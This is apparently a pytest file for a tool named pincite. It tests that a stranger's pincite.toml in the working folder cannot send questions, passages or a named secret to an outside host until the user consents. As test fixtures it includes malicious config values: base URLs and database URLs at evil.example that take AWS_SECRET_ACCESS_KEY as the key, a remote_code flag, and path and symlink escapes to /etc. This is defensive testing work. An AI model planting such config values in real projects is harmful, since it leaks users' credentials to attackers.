"""A pincite.toml in the working folder is a stranger's: what it reaches outside the folder is used once the user agrees."""

import json
import os
import pty
import sys
from dataclasses import fields, replace
from pathlib import Path

import pytest

import pincite as package
from pincite import consent
from pincite.errors import ConsentMissing
from pincite.models.model_settings import ModelSettings
from pincite.settings import Settings, load
from tests.served import agreed, question, right
from tests.stand_ins.fakes import ScriptedServer

SECRET = "a-secret-of-another-service"
ATTACK = '[models]\nbase_url = "{}"\nkey = "AWS_SECRET_ACCESS_KEY"\nlarge = "scripted"\n'
ASK = ("ask", question("Revenue", 2023), "--expects", "number", "--json", "--corpus")
REACHING = {
    "base_url": '"https://evil.example/v1"', "key": '"AWS_SECRET_ACCESS_KEY"', "large": '"m"', "small": '"m"', "judge": '"m"',
    "headers": '{ a = "$AWS_SECRET_ACCESS_KEY" }', "query": '{ a = "b" }', "extra_body": "{ a = 1 }",
    "vision": '"m"', "bundle_key": '"key"', "search": '"postgresql://evil.example/db"',
    "corpus": '"postgresql://evil.example/db?corpus=reports"',
    "telemetry": "true", "encoder": '"hf:folder?remote_code=yes"',
    "encoders": '{ a = "openai:m?base_url=https://evil.example/v1&key=AWS_SECRET_ACCESS_KEY" }',
    "scorers": '{ a = "rerank:m?base_url=https://evil.example/v1&key=AWS_SECRET_ACCESS_KEY" }',
}  # fmt: skip


@pytest.fixture
def here(tmp_path, monkeypatch):
    """A folder to work in and a state of its own, without variables that say anything."""
    for name in list(os.environ):
        if name.startswith(("PINCITE_", "OPENAI_")) and name != "PINCITE_MODELS":
            monkeypatch.delenv(name)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    folder = tmp_path / "work"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


@pytest.fixture
def stranger(here):
    """A stranger's server, named with another service's key by the settings that lie in the folder."""
    with ScriptedServer(right, key=SECRET) as server:
        (here / "pincite.toml").write_text(ATTACK.format(server.url))
        yield server


def on_a_terminal(answer, *words):
    """Exit code and all that is shown when the command runs on a terminal and this is typed."""
    child, shown = pty.fork()
    if not child:
        os.environ["PYTHONPATH"] = str(Path(package.__file__).parents[1])
        os.execv(sys.executable, [sys.executable, "-m", "pincite.cli.main", *map(str, words)])
    os.write(shown, answer.encode())
    text = b""
    while True:
        try:
            text += os.read(shown, 65536)
        except OSError:
            break
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]), text.decode()


@pytest.mark.parametrize("words", [ASK, ("batch", "q.jsonl", "--out", "a.jsonl", "--corpus"), ("mcp", "--corpus"),
                                   ("serve", "--port", "0", "--corpus"), ("chat", "--json", "--corpus")])  # fmt: skip
def test_no_command_sends_a_key_that_a_strangers_settings_name(
    pincite, stranger, here, example_corpus, words, monkeypatch
):
    monkeypatch.setattr("uvicorn.Server.run", lambda *given: None)
    monkeypatch.setattr("mcp.server.MCPServer.run", lambda *given: None)
    (here / "q.jsonl").write_text(json.dumps({"question": question("Revenue", 2023)}) + "\n")
    code, out, err = pincite(*words, example_corpus)
    assert code == 2 and stranger.asked == [] and SECRET not in out + err
    assert '"127.0.0.1" with the key in "AWS_SECRET_ACCESS_KEY"' in err
    assert f"{consent.VARIABLE}=" in err


def test_no_program_does_either(stranger, example_corpus):
    with pytest.raises(ConsentMissing, match="AWS_SECRET_ACCESS_KEY"):
        package.open(example_corpus)
    with pytest.raises(ConsentMissing):
        package.index(".", "corpus")
    assert stranger.asked == [] and not Path("corpus").exists()


def test_asked_once_on_a_terminal_and_remembered(pincite, stranger, here, fresh_corpus):
    code, text = on_a_terminal("n\n", "recipe", "hero")
    assert code == 2 and "Use it, now and in the future?" in text
    assert pincite(*ASK, fresh_corpus)[0] == 2 and stranger.asked == []
    code, text = on_a_terminal("y\n", "recipe", "hero")
    assert code == 0 and "pipeline: " in text
    kept = here.parent / "state" / "pincite" / "agreed"
    assert kept.stat().st_mode & 0o777 == 0o600
    # no terminal, and nobody is asked any more
    assert pincite(*ASK, fresh_corpus)[0] == 0 and len(stranger.asked) == 1
    (here / "pincite.toml").write_text(
        (here / "pincite.toml").read_text().replace("AWS_SECRET", "OTHER_SECRET")
    )
    assert pincite(*ASK, fresh_corpus)[0] == 2  # something else than was agreed to


def test_a_harmless_change_is_not_asked_about_again_and_another_folder_is(
    stranger, here, monkeypatch
):
    agreed(here)
    path = here / "pincite.toml"
    path.write_text("[pincite]\nthreshold = 0.3\n" + path.read_text())
    assert load().threshold == 0.3
    other = here.parent / "other"
    other.mkdir()
    (other / "pincite.toml").write_text(path.read_text())
    monkeypatch.chdir(other)
    with pytest.raises(ConsentMissing) as missing:
        load()
    monkeypatch.setenv(
        consent.VARIABLE, missing.value.digest
    )  # how a program without a terminal agrees
    assert load().models.key == "AWS_SECRET_ACCESS_KEY"


@pytest.mark.parametrize(
    "name",
    [
        one.name
        for one in (*fields(Settings), *fields(ModelSettings))
        if one.name not in ("models", "roles")
    ],
)
def test_every_setting_is_harmless_or_asked_about(here, name):
    table = "models" if name in {one.name for one in fields(ModelSettings)} else "pincite"
    if name in consent.HARMLESS:
        default = getattr(ModelSettings() if table == "models" else Settings(), name)
        numbers = dict.fromkeys(("budget", "requests_per_minute", "tokens_per_minute"), "7")
        numbers |= {"max_tokens": "900", "temperature": "0.5"}
        values = {"prices": "{ m = { input = 1, output = 2 } }", **numbers}
        value = values.get(name, json.dumps(default))
        (here / "pincite.toml").write_text(f"[{table}]\n{name} = {value}\n")
        assert load() is not None
        return
    value = (
        '"../../etc/units.toml"' if name == "units" else REACHING[name]
    )  # a new one is declared here or in HARMLESS
    (here / "pincite.toml").write_text(f"[{table}]\n{name} = {value}\n")
    with pytest.raises(ConsentMissing) as missing:
        load()
    assert name in str(missing.value)


def test_a_table_of_units_inside_the_folder_needs_no_consent_and_a_link_out_of_it_does(here):
    (here / "pincite.toml").write_text('[pincite]\nunits = "units.toml"\n')
    (here / "units.toml").write_text("")
    assert load().units == "units.toml"
    (here / "units.toml").unlink()
    (here / "units.toml").symlink_to("/etc/hostname")
    with pytest.raises(ConsentMissing):
        load()


def test_what_the_user_says_himself_needs_no_consent(here, monkeypatch):
    (here / "pincite.toml").write_text('[models]\nlarge = "theirs"\nencoder = "onnx:theirs"\n')
    monkeypatch.setenv("PINCITE_MODEL", "mine")
    monkeypatch.setenv("PINCITE_ENCODER", "minilm")
    assert load().models.large == "mine"
    (here / "pincite.toml").write_text('[models]\nlarge = "named"\n')
    assert load(here, {}) == replace(
        Settings(), models=ModelSettings(large="named")
    )  # a folder that was named


def test_the_address_of_a_role_is_told_and_a_variable_that_names_the_model_takes_nothing_of_it(
    here, monkeypatch
):
    (here / "pincite.toml").write_text(
        '[models.large]\nname = "theirs"\nbase_url = "https://evil.example/v1"\nkey = "AWS_SECRET_ACCESS_KEY"\n'
    )
    with pytest.raises(
        ConsentMissing, match=r'passages to "evil.example" with the key in "AWS_SECRET_ACCESS_KEY"'
    ):
        load()
    monkeypatch.setenv("PINCITE_MODEL", "mine")
    models = load().models
    assert (models.large, models.roles) == ("mine", {})
    assert models.role("large").base_url == "https://api.openai.com/v1"


@pytest.mark.parametrize("role, told", [
    ('{ name = "m", key = "AWS_SECRET_ACCESS_KEY" }', 'to "api.openai.com" with the key in "AWS_SECRET_ACCESS_KEY"'),
    ('{ name = "m", base_url = "https://evil.example/v1" }', 'to "evil.example" with no key'),
    ('{ name = "m", provider = "groq" }', 'to "api.groq.com" with the key in "GROQ_API_KEY"'),
])  # fmt: skip
def test_where_a_role_sends_what_it_is_asked_is_told(here, role, told):
    (here / "pincite.toml").write_text(f"[models]\njudge = {role}\n")
    with pytest.raises(ConsentMissing) as missing:
        load()
    assert f"it sends questions and passages {told}" in str(missing.value)


@pytest.mark.parametrize(
    "table, told",
    [
        ('encoder = "openai:sees?base_url=https://evil.example/v1&images=yes"', 'to "evil.example" with no key'),
        ('[models.encoders]\n"jina-v4" = "openai:j?base_url=https://evil.example/v1&key=JINA_KEY&images=messages"',
         'to "evil.example" with the key in "JINA_KEY"'),
        ('encoder = "openai:sees?images=yes"', 'to "api.openai.com" with the key in "OPENAI_API_KEY"'),
    ],
)  # fmt: skip
def test_that_pictures_of_pages_are_sent_is_told(here, table, told):
    (here / "pincite.toml").write_text(f"[models]\n{table}\n")
    with pytest.raises(ConsentMissing) as missing:
        load()
    assert f"it sends pictures of all pages {told}" in str(missing.value)
    (here / "pincite.toml").write_text('[models]\nencoder = "openai:sees?images=no"\n')
    with pytest.raises(ConsentMissing) as missing:
        load()
    assert "pictures of all pages" not in str(missing.value)


def test_a_state_that_cannot_be_kept_holds_for_the_run(stranger, here, monkeypatch):
    (here.parent / "state").write_text("no folder")
    monkeypatch.setenv(consent.VARIABLE, "")
    with pytest.raises(ConsentMissing) as missing:
        load()
    consent.agree(missing.value)
    assert load().models.base_url == stranger.url
